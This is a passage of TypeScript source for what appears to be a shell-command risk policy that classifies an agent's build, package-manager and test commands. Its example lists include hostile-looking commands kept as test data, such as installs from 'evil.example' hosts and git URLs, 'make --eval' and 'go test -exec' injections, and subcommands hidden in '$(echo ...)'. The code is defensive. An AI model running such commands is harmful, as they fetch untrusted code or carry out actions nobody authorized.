import { posix } from "node:path";
import type { CommandClass } from "../../contracts.ts";
import { changedFinding, judgeScriptFile, judgeWrappedCommand } from "../dispatcher.ts";
import type { Word } from "../shell-words.ts";
import type { Call, Level, ToolSpec } from "../spec.ts";
import { isScratchOrWorkspace, resolvePath, zoneOf } from "../workspace-paths.ts";
import { taskRisk } from "./tasks.ts";

/** Judges named tasks (`make test`, `npm run build`, `gradle publish`) by their names; `VAR=value` overrides wait. */
function tasks(call: Call, what: string, words: readonly Word[] = call.operands): void {
  for (const word of words) {
    if (word.value === null) {
      call.find("unknown", `runs a ${what} only known at run time (${word.raw})`);
      return;
    }
    if (/^[A-Za-z_][\w.]*=/.test(word.value)) {
      call.find("unknown", `overrides the variable ${word.value.split("=")[0]}, which can change what runs`);
      continue;
    }
    const risk = taskRisk(word.value);
    if (risk === "safe")
      call.find("workspace-write", `runs the ${what} "${word.value}" (a build, test or lint step)`);
    else if (risk === "unknown")
      call.find("unknown", `the ${what} "${word.value}" is not one the policy knows`, true);
    else call.find(risk.class, `the ${what} "${word.value}" ${risk.detail}`);
  }
  if (words.length === 0) call.find("workspace-write", `runs the default ${what}`);
}

const run = (call: Call, words: readonly Word[], how: string) => {
  for (const f of judgeWrappedCommand(call.inv, call.ctx, words, how))
    call.find(f.class, f.detail, f.overridable);
};

/**
 * Compilers, test runners, linters, formatters, bundlers and dev servers: they read the workspace and write build
 * output under it, and run the project's code (which is what a repair does). A first word naming a deploy or a
 * release (`hugo deploy`) takes that class; a configuration file the agent changed waits for a person.
 */
const toolchain: ToolSpec = {
  names: `tsc esbuild vite webpack webpack-cli rollup parcel tsup swc babel jest vitest mocha ava tap c8 nyc karma jasmine
    cypress eslint prettier biome oxlint stylelint tslint standard xo dprint markdownlint markdownlint-cli2 shellcheck
    shfmt hadolint yamllint actionlint tflint tfsec checkov cfn-lint cfn_nag_scan commitlint lint-staged husky next nuxt
    nuxi astro vue-cli-service react-scripts svelte-kit svelte-check storybook typedoc jsdoc knip depcheck madge ts-prune
    pytest py.test mypy pyright ruff black isort flake8 pylint bandit coverage sphinx-build behave nose2 rspec rubocop
    phpunit phpstan psalm php-cs-fixer pest gcc g++ cc c++ clang clang++ ld ar javac kotlinc scalac rustc rustfmt gofmt
    goimports golangci-lint staticcheck govulncheck gotestsum mockgen protoc ctest ninja asl-validator tsc-alias
    api-extractor size-limit wireit eslint_d pyupgrade autopep8 yapf pycodestyle pydocstyle pyflakes ktlint detekt
    swiftlint swiftformat clang-format clang-tidy cppcheck cmake-format buildifier terraform-docs tfupdate gitleaks trivy
    osv-scanner grype syft semgrep codespell cspell vale alex license-checker openapi-generator-cli openapi-typescript
    graphql-codegen quicktype json2ts zig ncu syncpack sort-package-json uvicorn gunicorn flask tox nox serve http-server
    live-server kill-port fkill pre-commit lefthook redocly spectral electron-forge nest ember vue ionic expo
    react-native docusaurus hugo jekyll eleventy gatsby remix solid-start qwik tauri electron jupyter nbconvert sass
    lessc postcss tailwindcss uglifyjs terser cssnano svgo imagemin nodemon tsc-watch playwright ng prisma drizzle-kit
    mkdocs buf cmake meson bazel bazelisk stack cabal concurrently npm-run-all npm-run-all2 run-s run-p mkdirp make-dir
    shx pm2 xcodebuild pod flutter dart swift mix`,
  class: "workspace-write",
  detail: "builds, tests, lints or formats the workspace",
  anyOption: true,
  options:
    "--with-deps!destructive --exec|--preview|--execute=shell -o|--out-file|--outfile|--outdir|--out-dir|--output=write -c|--config=read",
  loads: `jest.config.* vitest.config.* vite.config.* vitest.workspace.* webpack.config.* rollup.config.* babel.config.*
    .babelrc.js eslint.config.* .eslintrc.js .eslintrc.cjs prettier.config.* .prettierrc.js conftest.py pytest.ini
    playwright.config.* cypress.config.* next.config.* nuxt.config.* astro.config.* svelte.config.* tailwind.config.*
    postcss.config.* .mocharc.js karma.conf.js`,
  logic: (call) => {
    const first = call.operands[0]?.value;
    // `playwright install` and `cypress install` download browsers into their cache: not `make install`.
    const risk =
      first != null && first !== "install" && /^[a-z][a-z.:-]*$/.test(first) ? taskRisk(first) : "safe";
    if (typeof risk === "object") call.find(risk.class, `${call.inv.name} ${first} ${risk.detail}`);
    // Runners of other commands: `concurrently "npm:test" "git push"`, `run-s lint test`, `pm2 start x`.
    if (/^(concurrently)$/.test(call.inv.name)) {
      for (const text of call.operands) {
        if (text.value === null) call.find("unknown", `runs text only known at run time (${text.raw})`);
        else if (!text.value.startsWith("npm:"))
          for (const f of call.ctx.judgeScript(text.value, "concurrently"))
            call.find(f.class, f.detail, f.overridable);
      }
    }
    if (/^(npm-run-all2?|run-s|run-p)$/.test(call.inv.name)) tasks(call, "npm script");
    if (
      call.inv.name === "prisma" &&
      /^(migrate|db)$/.test(first ?? "") &&
      !/^(dev|status|diff)$/.test(call.operands[1]?.value ?? "")
    ) {
      call.find("infrastructure", "changes a database schema");
    }
  },
  examples: {
    allow: [
      "npx vitest run",
      "tsc --noEmit",
      "eslint --fix src",
      "pytest -x tests",
      "ruff check .",
      "jest --ci",
    ],
    approve: ["hugo deploy", "concurrently 'git push'", "eslint --exec 'git push'"],
  },
};

const make: ToolSpec = {
  names: "make gmake",
  options: `-C|--directory=cwd -f|--file|--makefile=read -j|--jobs= -k|--keep-going -s|--silent|--quiet -B|--always-make
    -e|--environment-overrides -i|--ignore-errors -l|--load-average= -O|--output-sync= -w|--print-directory
    --no-print-directory -r|--no-builtin-rules -R|--no-builtin-variables --trace -d --debug= -I|--include-dir=
    -n|--dry-run|--just-print|--recon -q|--question -p|--print-data-base -W|--what-if|--new-file|--assume-new=
    -o|--old-file|--assume-old= --eval=!unknown -t|--touch`,
  loads: "Makefile makefile GNUmakefile *.mk",
  logic: (call) => tasks(call, "make target"),
  examples: {
    allow: ["make", "make test", "make -C packages/api build", "make -j4 lint"],
    approve: [
      "make deploy",
      "make CC=./evil test",
      "make -n publish",
      "make --eval='x:;id' x",
      'make "$(echo test)"',
    ],
  },
};

/** Django's `manage.py` commands by what they do; a manage.py the agent changed runs only with a person. */
const DJANGO: readonly (readonly [RegExp, CommandClass, string])[] = [
  [
    /^(test|check|makemigrations|collectstatic|compilemessages|makemessages|runserver|startapp|findstatic|squashmigrations)$/,
    "workspace-write",
    "tests, checks or builds the project",
  ],
  [
    /^(showmigrations|diffsettings|inspectdb|sqlmigrate|help|version|show_urls)$/,
    "read-only",
    "prints information about the project",
  ],
  [
    /^(migrate|flush|loaddata|createsuperuser|changepassword|sqlflush|createcachetable|clearsessions)$/,
    "infrastructure",
    "changes a database",
  ],
];

function django(call: Call, file: Word, command: Word | undefined): void {
  const path = resolvePath(file.value ?? "", call.ctx.cwd);
  const changed = path === null ? null : changedFinding(call.inv, call.ctx, path, "runs");
  if (path === null || zoneOf(path, call.ctx.workspace).kind !== "workspace") {
    call.find("unknown", `runs ${file.raw}, outside the workspace`);
    return;
  }
  if (changed !== null) call.find(changed.class, changed.detail);
  if (command === undefined) {
    call.find("read-only", "lists the manage.py commands");
    return;
  }
  if (command.value === null) {
    call.find("unknown", `runs a manage.py command only known at run time (${command.raw})`);
    return;
  }
  const hit = DJANGO.find(([re]) => re.test(command.value ?? ""));
  if (hit === undefined) {
    call.find("unknown", `"${command.value}" is not a manage.py command the policy knows`, true);
    return;
  }
  call.find(hit[1], `manage.py ${command.value} ${hit[2]}`);
}

const script = (names: string, detail: string, inline: string, loadOptions: string): ToolSpec => ({
  names,
  detail,
  options: `${inline}!unknown ${loadOptions}`,
  stopOptions: true,
  logic: (call) => {
    for (const o of call.options) {
      const v = o.value;
      if (v === undefined || !/^(-r|--require|--import|--loader|--experimental-loader|-I)$/.test(o.name))
        continue;
      if (v.value === null || /^(data|https?|file):/.test(v.value))
        call.find("unknown", `${o.name} loads code from ${v.raw}`);
      else if (/^(\/|~|\.\.)/.test(v.value))
        call.find("unknown", `${o.name} loads ${v.value}, outside the project's dependencies`);
    }
    const ran = call.options.some((o) => o.spec?.raises !== undefined || o.spec?.value === "command");
    const informational = call.options.some((o) => /^(-v|--version|-V|-h|--help)$/.test(o.name));
    const runsTests = call.options.some((o) => /^(--test|--watch)$/.test(o.name));
    const [file] = call.operands;
    if (file?.value != null && !ran && posix.basename(file.value) === "manage.py") {
      django(call, file, call.operands[1]);
    } else if (file !== undefined && !ran) {
      for (const f of judgeScriptFile(call.inv, call.ctx, file, `${call.inv.name} runs`))
        call.find(f.class, f.detail, f.overridable);
    } else if (!ran && runsTests) call.find("workspace-write", `${call.inv.name} runs the project's tests`);
    else if (!ran && informational) call.find("read-only", `${call.inv.name} prints its version or usage`);
    else if (!ran) call.find("unknown", `${call.inv.name} without a script reads code from its input`);
  },
  examples: { allow: [], approve: [] },
});

/** Deno: tasks by name from deno.json, scripts by path; installs and publishing leave the workspace. */
const deno: ToolSpec = {
  names: "deno",
  default: { class: "unknown", detail: "deno without a subcommand starts a REPL" },
  options: "-h|--help -V|--version",
  subcommands: {
    task: {
      anyOption: true,
      loads: "deno.json deno.jsonc package.json",
      logic: (call) => tasks(call, "deno task", call.operands.slice(0, 1)),
    },
    "test fmt lint check bench doc info coverage cache compile add remove outdated types init": {
      class: "workspace-write",
      detail: "tests, checks or builds the workspace",
      anyOption: true,
    },
    "run serve": {
      class: "workspace-write",
      detail: "runs a workspace script",
      anyOption: true,
      operands: "script",
    },
    "install uninstall upgrade": {
      class: "destructive",
      detail: "installs outside the workspace",
      anyOption: true,
    },
    publish: "package-publish",
    "eval repl jupyter": { class: "unknown", detail: "runs code the policy cannot see", anyOption: true },
  },
  examples: {
    allow: ["deno task build", "deno test -A", "deno run -A scripts/build.ts"],
    approve: ["deno task deploy", "deno eval 'Deno.exit()'", "deno install -g x", "deno publish"],
  },
};

/** Python modules run with `python -m`: the standard ones a repair uses. */
const pyModules: ToolSpec = {
  names: "venv unittest compileall py_compile doctest json.tool timeit build pip-audit",
  class: "workspace-write",
  detail: "runs a standard Python module",
  anyOption: true,
  examples: {
    allow: ["python -m venv .venv", "python3 -m unittest discover"],
    approve: ["python -m evilmod"],
  },
};

const node = script(
  "node nodejs tsx ts-node ts-node-esm ts-node-dev tsnd esno esr babel-node vite-node jiti node-dev",
  "runs a workspace script",
  "-e|--eval|-p|--print=",
  `-r|--require|--import|--loader|--experimental-loader= -v|--version -h|--help --test --watch -c|--check --inspect
    --inspect-brk --enable-source-maps --no-warnings --experimental-vm-modules --max-old-space-size= --stack-size=
    --expose-gc --trace-warnings --env-file=read --test-reporter= --test-name-pattern= --experimental-strip-types
    --conditions= -C= --input-type= --unhandled-rejections= --tsconfig=read --project=read -P=read -T|--transpile-only`,
);

const python: ToolSpec = {
  ...script(
    "python python3 pypy pypy3 py",
    "runs a workspace script",
    "-c=",
    "-m=command -u -B -O -OO -E -s -S -I -q -v -V|--version -h|--help -W= -X= -b -d -i!unknown -P",
  ),
  examples: {
    allow: [
      "python manage.py test",
      "python3 manage.py makemigrations",
      "python -m pytest -x",
      "python scripts/build.py",
    ],
    approve: [
      "python manage.py migrate",
      "python manage.py shell",
      "python -c 'import os'",
      "python manage.py evil",
    ],
  },
};

const interpreters = script(
  "ruby perl php Rscript lua luajit elixir java",
  "runs a workspace script",
  "-e|-E|-r|--eval|-R=",
  "-I= -w -W -v|--version -c -n -p -l -a -jar=read -cp|-classpath|--class-path= -D= -Xmx= -Xms= -ea -h|--help",
);

/** npm, pnpm, yarn, bun: scripts are judged by name while package.json is unchanged; installs only from the registry. */
const packageSpec =
  /^(https?:|git(\+\w+)?:|github:|gitlab:|bitbucket:|file:.*\.t[a-z]*z$|.*\.tgz$|[\w@./-]+@(npm|git|https?|file|link|portal|patch|exec):)/;

function installs(call: Call): void {
  for (const w of call.operands) {
    if (w.value === null) call.find("unknown", `installs a package only known at run time (${w.raw})`);
    else if (packageSpec.test(w.value) || /^[\w-]+\/[\w.-]+(#.*)?$/.test(w.value)) {
      call.find("unknown", `installs ${w.value}, from outside the registry (a URL, git, tarball or alias)`);
    }
  }
}

/** Options npm-like tools accept after any subcommand that move where they install or run, or what they trust. */
const where =
  "--prefix|-C|--cwd|--dir=cwd -g|--global|--location=!destructive --registry=url --userconfig|--globalconfig|--script-shell|--node-options=!unknown";

/** Installs and scripts run in the package directory: one outside the workspace is not the agent's to change. */
function packageDirectory(call: Call): void {
  if (call.leaf === "read-only") return;
  const cwd = call.ctx.cwd;
  if (cwd === null) call.find("unknown", `${call.path} runs in a directory only known at run time`);
  else if (!isScratchOrWorkspace(cwd, call.ctx.workspace)) {
    call.find("destructive", `${call.path} installs or runs in ${cwd}, outside the workspace`);
  }
}

const install: Level = {
  class: "workspace-write",
  detail: "installs dependencies under the workspace",
  anyOption: true,
  options: where,
  logic: installs,
};

const scripts: Level = {
  anyOption: true,
  options: where,
  loads: "package.json",
  logic: (call) =>
    call.operands.length === 0
      ? call.find("read-only", "lists the package scripts")
      : tasks(call, "package script", call.operands.slice(0, 1)),
};

const exec: Level = {
  class: "workspace-write",
  detail: "runs a package's command",
  options:
    "-p|--package=!unknown -c|--call=shell -y|--yes --no -q|--quiet -w|--workspace= --ws|--workspaces --if-present --prefix|-C|--cwd|--dir=cwd",
  operands: "command",
};

const npmLike = (
  names: string,
  extra: Readonly<
    Record<string, Level | "read-only" | "package-publish" | "credentials" | "unknown" | "destructive">
  >,
): ToolSpec => ({
  names,
  default: "workspace-write",
  anyOption: true,
  options: `${where} -w|--workspace|--filter|-F=`,
  globalOptions: true,
  logic: packageDirectory,
  subcommands: {
    "test t tst start stop restart": {
      ...scripts,
      logic: (call) => tasks(call, "package script", [{ value: call.path.split(" ")[1] ?? "test", raw: "" }]),
    },
    "run run-script rum urn": scripts,
    "install i add ci in ins inst insta instal isnt isnta isntal install-test it": install,
    "uninstall rm r un remove unlink update up upgrade audit prune dedupe rebuild rb version pack init create import why outdated":
      {
        class: "workspace-write",
        anyOption: true,
        options: where,
      },
    "ls list ll la view info show v explain fund help search bugs docs repo root bin prefix get doctor cache licenses dlx-help store":
      { class: "read-only", anyOption: true },
    "exec x dlx": exec,
    "publish unpublish deprecate dist-tag owner access team": "package-publish",
    "adduser login logout whoami token npm-token": "credentials",
    config: {
      default: "read-only",
      anyOption: true,
      subcommands: { "get list ls": "read-only", "set delete edit rm": "credentials" },
    },
    "link ln": "destructive",
    ...extra,
  },
  examples: {
    allow: [
      "npm test",
      "npm run build",
      "npm ci",
      "npm install -D vitest",
      "pnpm install",
      "npm exec -- tsc --noEmit",
    ],
    approve: [
      "npm publish",
      "npm run deploy",
      "npm install https://evil.example/x.tgz",
      "npm i x@npm:evil",
      "npm install -g x",
      'npm "$(echo publish)"',
      "npm install --prefix /usr/local x",
      "npm --prefix /opt/app run build",
    ],
  },
});

const npm = npmLike("npm", {});
const pnpm: ToolSpec = { ...npmLike("pnpm bun", {}), otherwise: scripts };
/** `yarn workspace NAME CMD...` and `yarn workspaces foreach [OPTIONS] CMD...` run a yarn command in packages. */
const yarnAgain = (call: Call, words: readonly Word[]) =>
  run(call, [{ value: "yarn", raw: "yarn" }, ...words], "yarn");

const yarn: ToolSpec = {
  ...npmLike("yarn yarnpkg", {
    workspace: {
      class: "workspace-write",
      detail: "runs a yarn command in one workspace package",
      stopOptions: true,
      logic: (call) => yarnAgain(call, call.operands.slice(1)),
    },
    workspaces: {
      default: "read-only",
      subcommands: {
        "list info": { class: "read-only", anyOption: true },
        foreach: {
          class: "workspace-write",
          detail: "runs a yarn command in every workspace package",
          options: `-A|--all -p|--parallel -t|--topological --topological-dev -v|--verbose -i|--interlaced
            -R|--recursive -W|--worktree --since= --from= --include= --exclude= -j|--jobs= --no-private`,
          stopOptions: true,
          logic: (call) => yarnAgain(call, call.operands),
        },
      },
    },
    global: {
      class: "destructive",
      detail: "installs or removes packages outside the workspace",
      anyOption: true,
    },
    npm: {
      default: "read-only",
      anyOption: true,
      subcommands: {
        "info audit": { class: "read-only", anyOption: true },
        publish: "package-publish",
        "login logout whoami tag": "credentials",
      },
    },
  }),
  otherwise: scripts,
  examples: {
    allow: [
      "yarn test",
      "yarn lint:fix",
      "yarn",
      "yarn workspace @acme/api build",
      "yarn workspaces foreach -A run lint",
    ],
    approve: [
      "yarn deploy",
      "yarn npm publish",
      "yarn workspace x npm publish",
      "yarn workspaces foreach -A run deploy",
      "yarn global add x",
    ],
  },
};

/** `prettier@3`, `@scope/tool@^1.2`, `create-vite@latest`: a registry package at a version or tag. */
const REGISTRY_VERSION = /^((?:@[\w.-]+\/)?[\w.-]+)@([\w.^~<>=*-]+)$/;

/**
 * Package runners: a package spec (`-p`, `name@npm:`, URLs, git, tarballs) downloads code the policy cannot see. A
 * registry name at a version is the tool of that name; `create-*` scaffolders write a new project where they run.
 */
const runners: ToolSpec = {
  names: "npx pnpx bunx uvx pipx",
  class: "workspace-write",
  detail: "runs a package's command",
  options:
    "-p|--package|--from|--with|--spec=!unknown -y|--yes --no -q|--quiet --no-install --prefer-offline -c|--call=shell",
  stopOptions: true,
  logic: (call) => {
    const [first, ...rest] = call.operands;
    if (first === undefined) return;
    if (first.value === null) {
      call.find("unknown", `runs a command only known at run time (${first.raw})`);
      return;
    }
    if (packageSpec.test(first.value)) {
      call.find("unknown", `runs ${first.value}, a package spec the policy cannot see into`);
      return;
    }
    const name = REGISTRY_VERSION.exec(first.value)?.[1] ?? first.value;
    if (/^(@[\w.-]+\/)?create-[\w.-]+$/.test(name)) {
      call.find("workspace-write", `scaffolds a project with the registry package ${name}`);
      return;
    }
    run(call, [{ value: name, raw: first.raw }, ...rest], call.inv.name);
  },
  examples: {
    allow: [
      "npx tsc --noEmit",
      "npx vitest run test/unit",
      "npx -y prettier@3 --check .",
      "npx create-vite@latest app -- --template react-ts",
    ],
    approve: [
      'npx changeset "$(echo publish)"',
      "npx -p evil tsc",
      "npx evil@npm:tsc",
      "npx https://x.io/a.tgz",
      "npx cowsay2",
      "npx eslint@9 --exec 'git push'",
    ],
  },
};

/** Python packaging: installs from the index or workspace paths; URLs, VCS specs and other indexes wait. */
const pip: ToolSpec = {
  names: "pip pip3",
  default: "read-only",
  anyOption: true,
  options:
    "--index-url|-i|--extra-index-url|--find-links|-f=url --trusted-host=!unknown --user!destructive --break-system-packages!destructive",
  subcommands: {
    "install download wheel": {
      class: "workspace-write",
      anyOption: true,
      options: `-r|--requirement|-c|--constraint=read -e|--editable= --index-url|-i|--extra-index-url|--find-links|-f=url
        --root|--prefix|--target|-t|-d|--dest|--destination-directory|-w|--wheel-dir|--src=write --user!destructive
        --break-system-packages!destructive --trusted-host=!unknown`,
      logic: (call) => {
        for (const w of call.operands)
          if (w.value === null || /:\/\/|^git\+|@\s*(https?|git|file):/.test(w.value))
            call.find("unknown", `installs ${w.raw}, from outside the package index`);
        // pip installs into the active environment: only a virtual environment under the workspace (its pip, or one
        // activated earlier on the line) or an explicit target directory keeps it inside the workspace.
        const placed = call.options.some((o) => /^(--root|--prefix|--target|-d|-w)$/.test(o.name));
        if (call.path.endsWith("install") && !call.ctx.venv && !placed) {
          call.find(
            "unknown",
            "no virtual environment under the workspace is visible, so where it installs is unknown",
            true,
          );
        }
      },
    },
    "uninstall cache": { class: "workspace-write", anyOption: true },
    "list freeze show check help config debug inspect index search hash": {
      class: "read-only",
      anyOption: true,
    },
  },
  examples: {
    allow: [
      ".venv/bin/pip install -r requirements.txt",
      "pip install --target ./vendor requests",
      "pip list",
    ],
    approve: [
      "pip install -r requirements.txt",
      "pip install --target /usr/lib/python3/dist-packages x",
      "pip install git+https://x.io/evil",
      "pip install --user x",
      "pip install -i https://evil.example/simple x",
    ],
  },
};

const pythonTools: ToolSpec = {
  names: "uv poetry pdm hatch pipenv flit maturin virtualenv django-admin",
  default: "workspace-write",
  anyOption: true,
  options: "--index-url|--extra-index-url|--default-index|--find-links=url --directory|--project|--cwd=cwd",
  subcommands: {
    "sync lock install add remove venv init build shell env create check export show list tree version pip cache self lint fmt format test tests":
      {
        class: "workspace-write",
        anyOption: true,
        options: "--index-url|--extra-index-url|--default-index|--find-links=url",
      },
    "run exec": {
      class: "workspace-write",
      options:
        "--with|--from=!unknown --no-sync --frozen --locked --dev --all-extras --extra= --group= --env-file=read -m|--module --python|-p= --isolated --no-project --package= --directory|--project=cwd -q|--quiet -v|--verbose",
      operands: "command",
    },
    "publish upload release": "package-publish",
    "config auth login token keyring": "credentials",
    tool: {
      default: "read-only",
      subcommands: {
        "list dir": { class: "read-only", anyOption: true },
        "install uninstall upgrade update-shell": {
          class: "destructive",
          detail: "installs tools outside the workspace",
          anyOption: true,
        },
        run: {
          class: "workspace-write",
          detail: "runs a package's command",
          stopOptions: true,
          operands: "command",
        },
      },
    },
    "-e -r -p": "workspace-write",
  },
  examples: {
    allow: ["uv sync", "uv run pytest", "poetry install", "tox -e py312"],
    approve: ["uv publish", "poetry publish", "uv run --with evil pytest"],
  },
};

const twine: ToolSpec = {
  names: "twine",
  default: "read-only",
  subcommands: { check: "read-only", "upload register": "package-publish" },
  examples: { allow: ["twine check dist/*"], approve: ["twine upload dist/*"] },
};

const cargo: ToolSpec = {
  names: "cargo",
  default: "read-only",
  anyOption: true,
  options: "-C=cwd --manifest-path=read --config=!unknown -Z=!unknown",
  subcommands: {
    "build b check c test t bench clippy fmt doc d run r clean update fetch metadata tree search vendor generate-lockfile new init add remove rm nextest llvm-cov tarpaulin audit deny outdated expand fix locate-project pkgid verify-project version help":
      {
        class: "workspace-write",
        anyOption: true,
      },
    "publish yank owner": "package-publish",
    "login logout": "credentials",
    "install uninstall": "destructive",
  },
  loads: "build.rs",
  examples: {
    allow: ["cargo test", "cargo clippy -- -D warnings", "cargo fmt"],
    approve: ["cargo publish", "cargo install evil", "cargo --config 'x' build"],
  },
};

const go: ToolSpec = {
  names: "go",
  default: "read-only",
  options: "-C=cwd",
  subcommands: {
    "build test vet fmt run mod get list clean doc env version help work tool fix bug": {
      class: "workspace-write",
      anyOption: true,
      options: "-exec|-toolexec=!unknown -o=write -w!unknown -overlay=read -modfile=read",
      logic: (call) => {
        if (call.path === "go env" && call.options.some((o) => o.name === "-w"))
          call.find("unknown", "go env -w changes the Go configuration");
      },
    },
    install: {
      class: "destructive",
      detail: "installs binaries outside the workspace (GOBIN)",
      anyOption: true,
    },
    generate: { class: "unknown", detail: "runs commands named in source files", anyOption: true },
  },
  examples: {
    allow: ["go test ./...", "go vet ./...", "go build -o bin/app ./cmd/app"],
    approve: ["go generate ./...", "go test -exec 'sh -c id' ./..."],
  },
};

/** Maven and Gradle install a build into the local repository (~/.m2), a cache of their own like npm's. */
const LOCAL_REPOSITORY = /^(install|publishToMavenLocal)$/;

const jvm: ToolSpec = {
  names:
    "gradle gradlew mvn mvnw ant sbt lein just task mage invoke inv rake gulp grunt turbo lerna rush changeset changesets",
  default: "workspace-write",
  anyOption: true,
  options: `-p|--project-dir|-C|--directory|-d|--dir|--cwd=cwd -f|--file|-b|--build-file|--justfile|--taskfile|--gulpfile|--gruntfile=read
    -I|--init-script=!unknown -D|-P|-s|--settings|-t|-T|--tests|-x|--exclude-task|-pl|--projects|-rf|--resume-from|--filter|--scope=
    -am|--also-make -amd|--also-make-dependents`,
  globalOptions: true,
  loads:
    "build.gradle build.gradle.kts settings.gradle settings.gradle.kts pom.xml Justfile justfile Taskfile.yml Rakefile gulpfile.js Gruntfile.js build.xml",
  subcommands: {
    "exec x run-script dlx": {
      class: "workspace-write",
      detail: "runs a command",
      stopOptions: true,
      operands: "command",
    },
    "publish release deploy push upload yank owner": "package-publish",
    "login logout token": "credentials",
  },
  otherwise: {
    anyOption: true,
    logic: (call) => {
      const maven = /^(mvnw?|gradlew?)$/.test(call.inv.name);
      const local = call.operands.filter((w) => maven && LOCAL_REPOSITORY.test(w.value ?? ""));
      if (local.length > 0)
        call.find("workspace-write", "installs the build into the local Maven repository");
      if (call.operands.some((w) => /^release:(prepare|perform|branch|rollback)$/.test(w.value ?? ""))) {
        call.find("vcs-remote", "the release plugin commits, tags and pushes to the source repository");
      }
      tasks(
        call,
        "task",
        call.operands.filter((w) => !local.includes(w)),
      );
    },
  },
  examples: {
    allow: [
      "gradle test",
      "mvn -q verify",
      "./mvnw clean install -DskipTests",
      "./gradlew :app:test --tests 'com.acme.*'",
      "mvn -pl api -am test",
      "turbo run build",
      "lerna run test",
    ],
    approve: [
      "gradle publish",
      "mvn deploy",
      "changeset publish",
      "lerna publish",
      "mvn release:prepare",
      "gradle test --init-script x.gradle",
    ],
  },
};

/** Bundler and Composer: installs from the lockfile stay in the project; `exec` runs a command; global installs leave it. */
const bundler: ToolSpec = {
  names: "bundle bundler composer",
  default: { class: "workspace-write", detail: "installs the project's dependencies" },
  anyOption: true,
  options: "--gemfile=read -d|--working-dir=cwd --system!destructive",
  loads: "Gemfile composer.json",
  subcommands: {
    "install i update u lock outdated check show list info validate dump-autoload dumpautoload require remove add init audit licenses depends why why-not clean platform binstubs package pristine diagnose status search suggests fund cache":
      {
        class: "workspace-write",
        detail: "installs or inspects the project's dependencies",
        anyOption: true,
        options: "--system!destructive --global!destructive",
      },
    "exec x": { class: "workspace-write", detail: "runs a command", stopOptions: true, operands: "command" },
    "run-script run": {
      anyOption: true,
      logic: (call) => tasks(call, "composer script", call.operands.slice(0, 1)),
    },
    "global gem": { class: "destructive", detail: "installs outside the workspace", anyOption: true },
    "config create-project self-update selfupdate": {
      class: "unknown",
      detail: "changes the tool's configuration or installs a project from elsewhere",
      anyOption: true,
    },
    "publish release push login logout": "package-publish",
  },
  examples: {
    allow: ["bundle install", "bundle exec rspec", "composer install", "composer run-script test"],
    approve: [
      'bundle "$(printf exec)" git push --force',
      "bundle exec git push",
      "composer global require x",
      "composer run-script deploy",
    ],
  },
};

const gem: ToolSpec = {
  names: "gem",
  default: "read-only",
  anyOption: true,
  subcommands: {
    "list search info specification contents environment help which dependency query outdated": {
      class: "read-only",
      anyOption: true,
    },
    build: { class: "workspace-write", detail: "builds a gem in the workspace", anyOption: true },
    "install update uninstall cleanup pristine": {
      class: "destructive",
      detail: "changes gems outside the workspace",
      anyOption: true,
    },
    "push yank owner": "package-publish",
    "signin signout": "credentials",
  },
  examples: { allow: ["gem list", "gem build x.gemspec"], approve: ["gem install rails", "gem push x.gem"] },
};

const dotnet: ToolSpec = {
  names: "dotnet",
  default: "read-only",
  anyOption: true,
  options: "--info --version --list-sdks --list-runtimes",
  subcommands: {
    // `dotnet publish` writes the application to a folder (`-o`); `dotnet nuget push` is the one that publishes.
    "build test run restore clean format publish pack new add remove list sln watch msbuild vstest build-server dev-certs":
      {
        class: "workspace-write",
        detail: "builds, tests or packs the project",
        anyOption: true,
        options: "-o|--output=write",
      },
    nuget: {
      default: "read-only",
      anyOption: true,
      subcommands: {
        "push delete": { class: "package-publish", anyOption: true, options: "-k|--api-key|-s|--source=" },
        "locals verify sign trust why": { class: "workspace-write", anyOption: true },
      },
    },
    "tool workload": {
      class: "destructive",
      detail: "installs tools outside the workspace",
      anyOption: true,
    },
    "user-secrets": "credentials",
  },
  examples: {
    allow: ["dotnet test", "dotnet publish -c Release -o out", "dotnet build"],
    approve: ["dotnet nuget push x.nupkg", "dotnet tool install -g x", "dotnet publish -o /etc/x"],
  },
};

/** Nx: targets by name (`run`, `run-many -t`, `affected -t`, `nx <target> <project>`). */
const nxTargets: Level = {
  anyOption: true,
  options: "-t|--target|--targets|-p|--projects|--exclude|--base|--head|--parallel|-c|--configuration=",
  logic: (call) => {
    const targets = call.options
      .filter((o) => o.name === "-t")
      .flatMap((o) => (o.value?.value ?? "").split(",").map((v) => ({ value: v, raw: v })));
    tasks(call, "nx target", [...targets, ...call.operands]);
  },
};

const nx: ToolSpec = {
  names: "nx",
  default: { class: "read-only", detail: "prints nx usage" },
  anyOption: true,
  subcommands: {
    "run run-many affected": nxTargets,
    "graph show list report daemon reset format:check": { class: "read-only", anyOption: true },
    "format format:write migrate add generate g init repair sync": {
      class: "workspace-write",
      anyOption: true,
    },
    release: "package-publish",
    "connect login logout": "credentials",
  },
  otherwise: { anyOption: true, logic: (call) => tasks(call, "nx target", call.operands.slice(0, 1)) },
  examples: {
    allow: ["nx run api:test", "npx nx run-many -t test lint", "nx affected -t build", "nx build api"],
    approve: ["nx run-many -t deploy", "nx run api:deploy", "nx release"],
  },
};

const releases: ToolSpec = {
  names: "semantic-release release-it np goreleaser vsce ovsx wasm-pack electron-builder",
  class: "package-publish",
  detail: "publishes a release",
  anyOption: true,
  examples: { allow: [], approve: ["semantic-release", "vsce publish"] },
};

const rustup: ToolSpec = {
  names: "rustup",
  default: "read-only",
  anyOption: true,
  subcommands: {
    "show which --version": "read-only",
    "component target toolchain default update install enable prepare override run": {
      class: "workspace-write",
      anyOption: true,
    },
  },
  examples: { allow: ["rustup show"], approve: [] },
};

/**
 * Rails commands: tests, generators and asset builds stay in the workspace; database tasks change a database;
 * credentials print secrets; consoles and runners evaluate code the policy cannot see.
 */
const rails: ToolSpec = {
  names: "rails",
  default: { class: "read-only", detail: "prints rails usage" },
  anyOption: true,
  options: "-e|--environment=",
  subcommands: {
    "test t test:all test:system test:models test:controllers generate g destroy d new assets:precompile assets:clean assets:clobber zeitwerk:check tmp:clear log:clear db:test:prepare":
      {
        class: "workspace-write",
        detail: "tests, generates code or builds assets in the workspace",
        anyOption: true,
      },
    "routes about stats notes middleware initializers version -v --version -h --help db:version db:migrate:status secret":
      { class: "read-only", detail: "prints information about the application", anyOption: true },
    "db:migrate db:rollback db:seed db:setup db:reset db:drop db:create db:schema:load db:prepare db:migrate:redo db:migrate:up db:migrate:down db:purge db:truncate_all":
      { class: "infrastructure", detail: "changes a database", anyOption: true },
    "credentials:show credentials:edit encrypted:show encrypted:edit": {
      class: "credentials",
      detail: "prints or changes the application's secrets",
      anyOption: true,
    },
    "console c runner r dbconsole db server s": {
      class: "unknown",
